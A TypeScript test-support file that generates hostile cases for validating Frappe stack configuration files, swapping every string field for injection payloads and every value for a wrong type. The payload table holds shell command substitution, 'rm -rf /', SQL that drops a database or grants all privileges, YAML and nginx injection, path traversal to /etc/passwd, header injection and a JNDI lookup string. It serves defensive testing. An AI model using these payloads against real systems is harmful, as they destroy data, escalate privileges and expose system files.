/** Hostile cases made from right files: every text of them exchanged for each payload, every value for another kind of thing. */
import { keyPath } from "../../../config/problems.ts";
import { readStackFile, type StackName } from "../../support/stacks.ts";
import type { HostileCase } from "./case.ts";

/** Texts that mean something to a shell, SQL, YAML, nginx, a template, a terminal or a log, and nothing in any of our fields. */
export const payloads = {
  "a command substitution": "$(touch /tmp/pwned)",
  backticks: "`id`",
  "a second command": "x; rm -rf / #",
  "an option": "--privileged",
  SQL: "x'; DROP DATABASE mysql; -- ",
  "SQL in backticks": "x`; GRANT ALL ON *.* TO x@'%'; -- ",
  "a line of YAML": "x\nprivileged: true",
  "a tag of YAML": "!!js/function 'function(){}'",
  "an anchor of YAML": "&a [*a, *a]",
  "a block of nginx": "x; } location / { alias /etc/; } #",
  "a variable": "${HOME}{{ .Values.x }}%{x}",
  "the way up": "../../../../etc/passwd",
  "a header": "x\r\nSet-Cookie: sid=1",
  NUL: "x\u0000.example.com",
  "a right-to-left override": "x\u202egpj.exe",
  "full-width signs": "ｅｒｐ．example．com",
  "JavaScript's nature": "[object Object]",
  markup: "<script>alert(1)</script>",
  "an address of a log's server": "${jndi:ldap://x.example.com/a}",
  "a space": " ",
  "400 characters": "a".repeat(400),
} as const;

type Leaf = { readonly path: readonly PropertyKey[]; readonly value: unknown };

/** Every value in a section, with the way to it; containers before what they hold. */
function* leaves(value: unknown, path: readonly PropertyKey[] = []): Generator<Leaf> {
  yield { path, value };
  if (typeof value === "object" && value !== null) {
    for (const [key, child] of Object.entries(value)) {
      yield* leaves(child, [...path, Array.isArray(value) ? Number(key) : key]);
    }
  }
}

const placesOf = (stack: StackName): { section: string; path: readonly PropertyKey[]; value: unknown }[] =>
  Object.entries(readStackFile(stack).values).flatMap(([section, value]) =>
    [...leaves(value)].map((leaf) => ({ section, ...leaf })),
  );

/** Settings of a service, which take any text: it reaches nobody but the service, as a variable. */
const isFree = ({ section, path }: { section: string; path: readonly PropertyKey[] }) =>
  section === "services" && path[1] === "env";

/** A payload for every text in a stack file that is not anybody's own. */
export const payloadCases = (stack: StackName): HostileCase[] =>
  placesOf(stack)
    .filter((place) => typeof place.value === "string" && !isFree(place))
    .flatMap(({ section, path }) =>
      Object.entries(payloads).map(([what, payload]) => {
        const at = keyPath(section, path);
        return { name: `${what} at ${at}`, stack, set: { [at.slice("frappe:".length)]: payload }, path: at, says: "" };
      }),
    );

/** Other kinds of things than a value's own, none of which a section takes in its place. */
function strangersTo(value: unknown): unknown[] {
  const all = [null, Number.NaN, -1.5, "\u0000", [[]], { "no such key": 1 }, Symbol("x"), () => 1];
  const isList = Array.isArray(value);
  return all.filter((other) => !(isList && Array.isArray(other)));
}

/** Something of another kind for every value in a stack file, container or not. */
export const kindCases = (stack: StackName): HostileCase[] =>
  placesOf(stack).flatMap(({ section, path, value }) =>
    strangersTo(value).map((stranger, i) => {
      const at = keyPath(section, path);
      return { name: `kind ${i} at ${at}`, stack, set: { [at.slice("frappe:".length)]: stranger }, path: at, says: "" };
    }),
  );
